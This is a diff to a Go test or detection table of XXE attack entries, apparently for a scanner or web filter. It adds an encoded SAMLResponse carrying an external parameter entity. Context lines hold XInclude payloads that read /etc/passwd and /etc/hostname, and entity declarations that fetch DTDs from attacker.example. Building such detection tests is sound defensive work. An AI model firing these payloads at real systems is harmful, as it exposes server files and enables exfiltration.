@@ -78,6 +78,10 @@ func init() {
 		attackEntry{lQ, "xml", `<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>`, "xxe-external-entity", encURL},
 		attackEntry{lJ, "svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="http://attacker.example/a"/></svg>`, "xxe-external-entity", encURL},
 		attackEntry{lF, "data", `<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;`, "xxe-external-entity", encURL},
+		// A SAML response posted to an assertion consumer (form-encoded,
+		// as browsers post it): base64 of XML with an external parameter
+		// entity.
+		attackEntry{lF, "SAMLResponse", "PD94bWwgdmVyc2lvbj0iMS4wIj8%2BPCFET0NUWVBFIHIgWzwhRU5USVRZICUgeCBTWVNURU0gImh0dHA6Ly9vYXN0LmV4YW1wbGUvcy5kdGQiPiV4O10%2BPHNhbWxwOlJlc3BvbnNlLz4%3D", "xxe-external-entity", 0},
 		attackEntry{lH, "user-agent", `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]>`, "xxe-external-entity", 0},
 		attackEntry{lH, "x-soap-header", `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>`, "xxe-external-entity", 0},
 		attackEntry{lQ, "q", "x!ENTITY % p PUBLIC", "xxe-external-entity", encURL},
